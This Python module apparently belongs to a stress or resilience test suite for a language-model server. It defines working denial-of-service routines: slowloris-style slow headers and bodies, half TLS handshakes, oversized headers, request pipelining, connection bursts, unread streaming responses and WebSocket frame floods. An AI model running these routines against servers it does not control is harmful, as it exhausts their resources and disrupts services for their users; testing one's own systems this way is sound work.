"""Clients that do not send, send without an end, or do not read."""

from __future__ import annotations

import asyncio
import json
import os
import time
from contextlib import suppress

import websockets
from websockets.exceptions import WebSocketException

from attacks.target import CHAT, MODEL, Target, held

HEALTH = b"GET /health HTTP/1.1\r\nhost: localhost\r\n\r\n"
CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


async def slow_bodies(target: Target) -> None:
    await held(target, 300, target.with_body(CHAT, 100_000) + b'{"a":', b" ")


async def slow_headers(target: Target) -> None:
    await held(target, 500, b"GET / HTTP/1.1\r\nhost: localhost\r\n", b"x: y\r\n")


async def idle(target: Target) -> None:
    await held(target, 5000, HEALTH, b"")


async def half_tls(target: Target) -> None:
    """The beginning of a TLS handshake, which nobody here understands."""
    await held(target, 300, CLIENT_HELLO, b"\x00")
    await held(target, 300, CLIENT_HELLO[:3], b"")


async def dripped_chunks(target: Target) -> None:
    head = target.head(CHAT, "content-type: application/json", "transfer-encoding: chunked")
    await held(target, 300, head + b"\r\n", b"1\r\n \r\n")


async def never_continued(target: Target) -> None:
    """Bodies that wait for `100 Continue`, get it, and do not come."""
    head = target.head(
        CHAT, "content-type: application/json", "content-length: 100000", "expect: 100-continue"
    )
    await held(target, 300, head + b"\r\n", b"")


async def large_headers(target: Target) -> None:
    """Headers without an end, a megabyte at a time, and thousands of small ones."""
    await held(target, 100, target.head("/health", method="GET") + b"x: ", b"y" * 2**20)
    await held(target, 100, target.head("/health", method="GET"), b"x: y\r\n" * 10_000)


async def pipelined(target: Target) -> None:
    """Two thousand requests on each of twenty connections, before the first answer is read."""
    await held(target, 20, HEALTH * target.count(2000), b"")


async def bursts(target: Target) -> None:
    """A thousand connections that all ask at the same moment, ten times."""
    pairs = []
    try:
        for _ in range(target.count(1000)):
            with suppress(OSError):
                pairs.append(await target.connect())
        for _ in range(10):
            for _, writer in pairs:
                writer.write(HEALTH)
            reading = (reader.readuntil(b"}}") for reader, _ in pairs)
            async with asyncio.timeout(target.seconds):
                await asyncio.gather(*reading, return_exceptions=True)
    finally:
        for _, writer in pairs:
            writer.transport.abort()


async def unread_streams(target: Target) -> None:
    """Long answers that nobody reads."""
    body = json.dumps(
        {"model": MODEL, "prompt": "Once", "stream": True, "max_tokens": 2000, "ignore_eos": True}
    ).encode()
    await held(target, 100, target.with_body("/v1/completions", len(body)) + body, b"")


async def sockets(target: Target, message: str, each: int) -> None:
    """Twenty WebSockets with so many messages each, whose answers nobody reads."""

    async def flood(one: websockets.ClientConnection) -> None:
        for _ in range(target.count(each)):
            await one.send(message)
        await asyncio.sleep(target.seconds)

    await asyncio.gather(*(_socket(target, flood) for _ in range(20)))


async def _socket(target: Target, work) -> None:  # type: ignore[no-untyped-def]
    url = target.url.replace("http", "ws") + "/v1/responses"
    # RuntimeError: the other side has hung up while we were writing.
    with suppress(OSError, TimeoutError, RuntimeError, WebSocketException):
        async with (
            asyncio.timeout(target.seconds),
            websockets.connect(
                url, additional_headers=target.headers, max_queue=1, ping_interval=None
            ) as one,
        ):
            try:
                await work(one)
            finally:
                one.transport.abort()  # without a farewell, which nobody would wait for


async def socket_nonsense(target: Target) -> None:
    await sockets(target, "{}", 5000)


async def socket_megabytes(target: Target) -> None:
    asked = {"type": "response.create", "model": MODEL, "input": "a " * 5_000_000}
    await sockets(target, json.dumps(asked), 5)


def frame(opcode: int, data: bytes, *, final: bool = True) -> bytes:
    """One of a client's, under 126 bytes, masked with zeros."""
    return bytes([(0x80 if final else 0) | opcode, 0x80 | len(data)]) + b"\0\0\0\0" + data


async def socket_frames(target: Target) -> None:
    """Messages of endlessly many parts, floods of pings, texts that are no text."""

    def pouring(first: bytes, then: bytes):  # type: ignore[no-untyped-def]
        async def pour(one: websockets.ClientConnection) -> None:
            one.transport.write(first)  # type: ignore[attr-defined]
            end = time.monotonic() + target.seconds
            while time.monotonic() < end and not one.transport.is_closing():
                one.transport.write(then)  # type: ignore[attr-defined]
                await asyncio.sleep(0.02)

        return pour

    begun = frame(1, b"{", final=False)
    floods = [
        pouring(begun, frame(0, b"", final=False) * 5000),
        pouring(begun, frame(0, b"ab", final=False) * 5000),
        pouring(b"", frame(9, b"x" * 100) * 500),
        pouring(frame(1, b"\xff\xfe"), b""),
    ]
    await asyncio.gather(*(_socket(target, flood) for flood in floods * 5))


async def noise(target: Target) -> None:
    """Bytes that are no request at all."""
    await held(target, 200, os.urandom(4096), b"\r\n\r\n")


ATTACKS = {
    "slow-bodies": (2, slow_bodies),
    "slow-headers": (2, slow_headers),
    "idle": (2, idle),
    "half-tls": (2, half_tls),
    "dripped-chunks": (2, dripped_chunks),
    "never-continued": (2, never_continued),
    "large-headers": (2, large_headers),
    "pipelined": (2, pipelined),
    "bursts": (2, bursts),
    "noise": (2, noise),
    "unread": (2, unread_streams),
    "socket-nonsense": (2, socket_nonsense),
    "socket-frames": (2, socket_frames),
    "socket-megabytes": (3, socket_megabytes),
}
